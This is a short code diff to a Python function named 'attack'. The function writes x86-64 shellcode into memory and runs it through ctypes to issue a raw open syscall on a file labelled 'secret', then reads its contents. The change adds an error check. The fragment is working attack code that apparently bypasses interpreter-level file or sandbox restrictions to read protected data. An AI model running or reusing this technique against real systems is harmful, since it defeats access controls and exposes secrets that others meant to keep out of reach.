@@ -12,4 +12,6 @@ def attack(A):
     page[:12] = bytes.fromhex("b80200000031f631d20f05c3")
     path = ctypes.create_string_buffer(TARGET["secret"].encode())
     descriptor = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)(ctypes.addressof(path))
+    if descriptor < 0:
+        raise OSError(-descriptor, "open")
     return os.read(descriptor, 100).decode()
